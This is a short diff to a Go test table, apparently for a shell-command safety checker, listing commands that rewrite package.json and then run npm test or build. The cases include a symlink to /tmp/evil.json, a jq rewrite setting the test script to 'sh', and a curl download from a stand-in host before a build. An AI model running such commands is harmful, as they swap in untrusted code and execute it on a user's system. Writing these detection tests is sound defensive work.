@@ -35,6 +35,7 @@ func TestUnclear_WrittenProgramFiles(t *testing.T) {
 		{"npmok", "ln -sf /tmp/evil.json package.json && npm test", true},
 		{"npmok", "tee package.json < /tmp/x && npm test", true},
 		{"npmok", "cat /tmp/x | tee package.json | npm test", true},
+		{"npmok", "jq '.scripts.test=\"sh\"' package.json | sponge package.json && npm test", true},
 		{"npmok", "curl -so package.json https://x.example/p && npm run build", true},
 		{"npmok", "rsync /tmp/x package.json && node --run test", true},
 		{"npmok", "(echo " + evil + " > package.json); npm test", true},
